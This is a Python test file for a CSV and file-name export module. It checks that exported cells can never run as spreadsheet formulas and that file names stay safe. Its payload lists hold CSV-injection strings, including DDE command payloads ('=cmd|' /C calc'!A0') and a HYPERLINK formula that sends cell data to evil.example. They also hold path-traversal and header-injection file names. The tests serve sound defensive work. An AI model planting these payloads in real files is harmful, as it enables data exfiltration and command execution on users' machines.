"""CSV: nothing a stranger wrote is a formula, in whichever way the file is read; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from business import bakery

from parcours.facts.model import Assessment, Profile
from parcours.report.export.csv import defused, to_csv
from parcours.report.export.file_names import file_name
from parcours.report.export.tables import MAKERS, Column, Table, table

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1",
    "   @x", "\u3000=1+1", "＝1+1", "＋1+1", "－1+1", "＠x", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1",
    '"=1+1', '" =1+1"', "“=1+1”", "`=1+1", "«\u202f=1+1", ";=1+1", ",=1+1", "|=1+1", "a;=1+1;b",
    "a,=1+1,b", 'a";"=1+1', "a\t=1+1", "a\n=1+1", "a|=1+1", "-1,5+cmd|' /C calc'!A0", "a;-1,5+A1;b",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"Sarah")', "=WEBSERVICE(A1)",
    "+33 1 23 45 67 89", "-12.5,=1+1", "--1", "=",
)  # fmt: skip
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def cells(data: bytes, delimiter: str, quoted: bool) -> list[str]:
    """Every cell, as a program sees it that takes `delimiter` for the border and minds quotes or not."""
    text = data.decode("utf-8-sig")
    if quoted:
        return [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
        ]
    return re.split(f"[{re.escape(delimiter)}\r\n]", text)


def formulas(data: bytes) -> list[str]:
    """Cells that any reading would run: with = + - @ after blanks and quotes, numbers apart."""
    found = []
    for delimiter in ",;\t|":
        for cell in cells(data, delimiter, True) + cells(data, delimiter, False):
            bare = re.sub(r"^[\s\"`“”«»\u200b-\u200f\ufeff]+", "", cell)
            if bare[:1] in tuple("=+-@＝＋－＠") and not NUMBER.fullmatch(bare.strip('" ')):
                found.append(cell)
    return found


def one_cell(cell) -> Table:
    return Table("One", (Column("what", 9), Column("cell", 9)), (("word", cell),))


def test_there_are_forty_payloads_and_all_would_run_unless_defused():
    assert len(set(PAYLOADS)) >= 40
    raw = [f'a,"{each.replace(chr(34), chr(34) * 2)}"'.encode() for each in PAYLOADS]
    assert all(formulas(each) for each in raw)


@pytest.mark.parametrize("lang", ["en", "fr"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula_however_the_file_is_read(payload, lang):
    assert formulas(to_csv(one_cell(payload), lang)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_through_a_whole_audit(payload):
    """The words of the site, the notes and the name are the stranger's; so is every page's title."""
    view = bakery(payload, said=payload)
    for name in MAKERS:
        assert formulas(to_csv(table(view, "fr", name), "fr")) == []


@pytest.mark.parametrize("begun", ["\t", "\r", "\n"])
def test_a_blank_that_excel_drops_does_not_begin_a_cell(begun):
    assert defused(f"{begun}word") == f"'{begun}word"


@pytest.mark.parametrize(
    "text",
    ["Boulangerie Martin", "a-b, c@d.example = 2", "-12.5", "+3", "≥ 0.9 / ≥ 0.7", "moins 3 ; plus 2", "",
     "1,-2", "https://maps.example/@48.85,-1.55,17z"],
)  # fmt: skip
def test_what_is_no_formula_stays_as_it_is(text):
    assert defused(text) == text


@pytest.mark.parametrize(("lang", "written"), [("en", "-12.5"), ("fr", "-12,5")])
def test_a_number_stays_a_number_in_the_writing_of_the_language(lang, written):
    data = to_csv(one_cell(-12.5), lang)
    assert cells(data, ";" if lang == "fr" else ",", True)[-1] == written


@pytest.mark.parametrize(("lang", "border"), [("en", ","), ("fr", ";")])
def test_excel_reads_accents_and_columns(lang, border):
    data = to_csv(table(bakery("Pâtisserie Noël"), lang, "checks"), lang)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=border))
    assert len({len(row) for row in rows}) == 1
    assert len(rows) == len(bakery().findings.results) + 1


def test_the_actions_are_those_of_the_plan_in_its_order():
    view = bakery()
    rows = table(view, "en", "actions").rows
    assert [row[0] for row in rows] == list(range(1, len(view.plan.first) + len(view.plan.later) + 1))
    assert [row[1] for row in rows].count("do first") == len(view.plan.first)
    assert all(row[-1] for row in rows[len(view.plan.first) :])


def test_every_answer_is_told_in_words():
    rows = table(bakery(), "en", "answers").rows
    said = {row[2] for row in rows}
    assert {"I don't know.", "Does not apply: 01 23 45 67 89."} <= said
    assert {row[3] for row in rows} == {None, 0, 1, 3, 4}


def test_what_could_not_be_checked_is_never_told_as_poor():
    rows = {row[1]: row for row in table(bakery(), "en", "checks").rows}
    errors = [row for row in rows.values() if row[3] == "could not be checked"]
    assert errors
    assert all(row[5] is None and row[9] is None for row in errors)


def test_the_summary_gives_the_scores_of_the_screen():
    view = bakery()
    rows = {row[0]: row for row in table(view, "en", "summary").rows}
    assert rows["Whole journey"][1] == round(view.scorecard.overall.score)
    for each in view.scorecard.stages:
        if each.applicable and each.score is not None:
            assert round(each.score) in [row[1] for row in rows.values()]


def test_without_a_website_there_is_nothing_of_one():
    view = bakery(site=False)
    assert table(view, "fr", "checks").rows == table(view, "fr", "pages").rows == ()
    assert table(view, "fr", "answers").rows


def test_a_number_no_spreadsheet_can_hold_is_left_out():
    view = bakery()
    wild = (10**400, float("nan"), float("inf"))
    results = [replace(each, value=value) for each, value in zip(view.findings.results, wild, strict=False)]
    changed = replace(view, findings=replace(view.findings, results=tuple(results)))
    assert [row[5] for row in table(changed, "en", "checks").rows] == [None] * 3


# fmt: off
TITLES = ("..", "../../etc/passwd", "a/b\\c", "x\r\nSet-Cookie: a=b", "\x00", "\u202egnp.exe", "CON", "aux",
          "nul.txt", "", "   ", "Été à Nœux", "a" * 500, ".htaccess", "=cmd|x", '"; filename="x', "日本語")
# fmt: on


@pytest.mark.parametrize("part", ["", "actions"])
@pytest.mark.parametrize("title", TITLES)
def test_a_file_is_named_in_plain_letters(title, part):
    made = bakery().assessment
    for url in ("", f"https://{'b' * 60}.example/{title[:9].strip() or 'x'}"):
        named = file_name(
            Assessment("x", url, title, Profile.LOCAL, "en", made.created, made.updated), "csv", part
        )
        assert re.fullmatch(r"parcours-[a-z0-9-]{1,71}\.csv", named)


@pytest.mark.parametrize("unseen", ["\u202e", "\u2066", "\u061c", "\u00ad", "\ufe0f"])
def test_a_formula_behind_a_character_nobody_sees_is_defused_too(unseen):
    assert defused(f"{unseen}=1+1") == f"'{unseen}=1+1"
